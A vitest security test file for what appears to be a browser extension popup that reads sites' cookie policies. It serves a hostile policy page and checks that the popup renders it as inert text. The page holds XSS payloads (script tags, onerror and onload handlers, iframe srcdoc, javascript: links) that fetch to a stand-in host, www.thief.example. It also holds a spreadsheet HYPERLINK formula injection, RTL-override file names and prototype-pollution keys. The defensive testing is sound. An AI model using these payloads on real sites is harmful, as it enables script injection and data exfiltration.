import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Site } from '../../scripts/demo/server';
import { inState, textOf, withPopup } from './harness/popup';
import { declaredNames, press, readBy, readerIn } from './harness/reader';
import { browserKinds, startSession, type Session } from './harness/session';
import { visit } from './harness/visit';

const hostileHost = 'www.hostile-charter.example';
const thiefHost = 'www.thief.example';

const formula = '=HYPERLINK("https://www.thief.example/formula","x")';
const markup = '<img src=x onerror="document.title=1">';
const escaped = markup.replaceAll('<', '&lt;').replaceAll('"', '&quot;');

const policy = (thief: string) => `<!doctype html><html lang="en"><meta charset="utf-8">
  <title>Cookies ${escaped}</title>
  <base href="${thief}/">
  <link rel="stylesheet" href="${thief}/style.css">
  <meta http-equiv="refresh" content="0; url=${thief}/refresh">
  <script>document.title = 'ran'; fetch('${thief}/script');</script>
  <h1 onclick="alert(1)">Cookies</h1>
  <iframe src="${thief}/frame" srcdoc="&lt;script>fetch('${thief}/srcdoc')&lt;/script>"></iframe>
  <table data-huge="${'x'.repeat(2_000_000)}">
    <tr><th>Name</th><th>Purpose</th><th>Provider</th></tr>
    <tr><td>sid</td><td>${escaped}<img src="${thief}/cell.png" onerror="fetch('${thief}/error')"></td><td><a href="javascript:alert(1)">Ours</a></td></tr>
    <tr><td>rtl_&#x202E;gpj.exe</td><td>Reads backwards &#x202E;sdrawkcab</td><td>Ours</td></tr>
    <tr><td>sum_1</td><td>${formula.replaceAll('"', '&quot;')}</td><td>@SUM(1)</td></tr>
    <tr><td>__proto__</td><td>Pollutes</td><td>constructor</td></tr>
  </table>
  <svg onload="fetch('${thief}/svg')"><script>fetch('${thief}/svg-script')</script></svg>`;

describe.each(browserKinds)('a charter that is out to do harm, in %s', (kind) => {
  let session: Session;
  const taken: string[] = [];

  beforeAll(async () => {
    const sites: Record<string, Site> = {
      [hostileHost]: ({ path, originOf }) =>
        path === '/cookies'
          ? { body: policy(originOf(thiefHost)) }
          : {
              body: `<!doctype html><html lang="en"><title>Home</title><a href="/cookies">Cookies ${escaped}</a>`,
            },
      [thiefHost]: ({ path }) => {
        taken.push(path);
        return { body: '' };
      },
    };
    session = await startSession(kind, sites);
  });
  afterAll(() => session?.end());

  it('is shown as text: nothing of it runs, nothing is asked for', async () => {
    const { browser } = session;
    const page = await visit(browser, hostileHost);
    await withPopup(browser, page, async (popup) => {
      await inState(popup, 'no-charter');
      await readBy(popup, 'link');
      await readerIn(popup, 'check');
      const names = await declaredNames(popup);
      expect(names).toContain('sid');
      expect(names).toContain('sum_1');
      const text = await textOf(popup);
      expect(text).toContain(markup);
      expect(text).toContain(formula);
      expect(text).toContain('\\u202E');
      const found = await popup.evaluate(() => ({
        title: document.title,
        // Of the site's: the reader's own page has one script and one style sheet, in its head.
        elements: document.querySelectorAll('img, iframe, svg, a, body script, body link, base')
          .length,
        handlers: Array.from(document.querySelectorAll('*'), ({ attributes }) => [...attributes])
          .flat()
          .filter(({ name }) => name.startsWith('on')).length,
        overrides: /[\u202A-\u202E\u2066-\u2069]/.test(document.body.innerText),
        polluted: 'Pollutes' in {},
      }));
      expect(found).toMatchObject({
        elements: 0,
        handlers: 0,
        overrides: false,
        polluted: false,
      });
      expect(found.title).not.toMatch(/ran|^1$/);
      await press(popup, '#save');
      await inState(popup, 'ready');
    });
    expect(taken).toEqual([]);
    await page.close();
  });
});
